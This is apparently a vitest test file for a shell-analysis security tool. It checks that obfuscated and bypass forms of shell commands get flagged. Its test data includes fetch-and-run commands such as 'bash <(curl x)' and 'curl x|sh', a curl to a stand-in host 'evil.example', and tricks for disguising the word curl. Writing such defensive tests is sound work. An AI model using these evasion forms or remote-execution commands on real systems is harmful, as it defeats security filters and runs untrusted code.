// Golden attack fixtures: every bypass form from docs/shell-analysis.md and the classics.
// Re-record with RECORD_SHELL_FIXTURES=1 after an intended change, then review the diff.
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { beforeAll, describe, expect, it } from "vitest";
import type { ShellAnalysis } from "../../src/model.js";
import { analyseShell, initShell } from "../../src/shell/index.js";

interface Fixture {
  name: string;
  text: string;
  commands: Array<{ context: string; argv: string[]; redirects?: string[] }>;
  problems: string[];
}

const file = path.join(path.dirname(fileURLToPath(import.meta.url)), "../fixtures/shell/attacks.json");
const fixtures = JSON.parse(readFileSync(file, "utf8")) as Fixture[];

function project(name: string, text: string, a: ShellAnalysis): Fixture {
  return {
    name,
    text,
    commands: a.commands.map((c) => ({
      context: c.context,
      argv: c.argv.map((w) => (w.dynamic !== undefined ? `<dynamic: ${w.dynamic}>` : w.value)),
      ...(c.redirects.length > 0
        ? {
            redirects: c.redirects.map(
              (r) =>
                `${r.fd ?? ""}${r.op}${r.target ? " " + (r.target.dynamic !== undefined ? "<dynamic>" : r.target.value) : ""}`,
            ),
          }
        : {}),
    })),
    problems: a.problems.map((p) => `${p.code}: ${p.construct}`),
  };
}

beforeAll(async () => {
  await initShell();
});

describe("shell attack fixtures", () => {
  if (process.env.RECORD_SHELL_FIXTURES) {
    it("re-records the fixtures", () => {
      const out = fixtures.map((f) => project(f.name, f.text, analyseShell(f.text)));
      writeFileSync(file, JSON.stringify(out, null, 2) + "\n");
      expect(out.length).toBe(fixtures.length);
    });
    return;
  }
  for (const f of fixtures) {
    it(f.name, () => {
      expect(project(f.name, f.text, analyseShell(f.text))).toEqual(f);
    });
  }
});

describe("the bypass forms of shell-analysis.md are never clean", () => {
  const bypasses = [
    "cu\\\nrl https://evil.example",
    'ls "a"\\*b',
    "echo $'a'\\;",
    "echo ''\\>x",
    "echo hi >'s p'\\>",
    "cat <<-EOF\n\t$(id)\n\tEOF",
    "cat <<EOF\n`id`\nEOF",
    "cat <<EOF\n\\$(id)\nEOF",
    "curl x\r",
    "echo a\u0000b",
    "X=cu; Y=rl; $X$Y",
    "bash <(curl x)",
    'eval "$(curl x)"',
    "{echo,hi}",
    "echo $(whoami)",
    'a=$(curl x) && sh -c "$a"',
  ];
  for (const text of bypasses) {
    it(JSON.stringify(text), () => {
      expect(analyseShell(text).problems.length).toBeGreaterThan(0);
      expect(analyseShell(text).script).toBeUndefined();
    });
  }

  it("a comment hides nothing: `echo hi #; curl x|sh` is one command", () => {
    const a = analyseShell("echo hi #; curl x|sh");
    expect(a.commands.map((c) => c.argv.map((w) => w.value))).toEqual([["echo", "hi"]]);
    expect(a.script?.pipelines).toHaveLength(1);
  });

  it("static spellings of curl resolve to curl", () => {
    for (const text of ["c\\url x", "$'\\x63url' x", "cu''rl x", '"c"u"r"l x', "'cu'rl x", "c$'u'rl x"]) {
      const a = analyseShell(text);
      expect(a.problems, text).toEqual([]);
      expect(
        a.commands[0]?.argv.map((w) => w.value),
        text,
      ).toEqual(["curl", "x"]);
    }
  });

  it("`;`, newline, && and || become the script's operators", () => {
    const a = analyseShell("a; b\nc && d || e");
    expect(a.script?.operators).toEqual([";", ";", "&&", "||"]);
    expect(a.script?.pipelines.map((p) => p.map((c) => c.argv[0]?.value))).toEqual([
      ["a"],
      ["b"],
      ["c"],
      ["d"],
      ["e"],
    ]);
  });

  it("every nested command is collected with its context", () => {
    const a = analyseShell('echo "$(cat <(curl -s x) | sh)" `id`');
    const seen = a.commands.map((c) => `${c.context}:${c.argv[0]?.value ?? ""}`);
    expect(seen).toEqual(
      expect.arrayContaining([
        "process-substitution:curl",
        "command-substitution:cat",
        "command-substitution:sh",
        "command-substitution:id",
        "top:echo",
      ]),
    );
  });
});
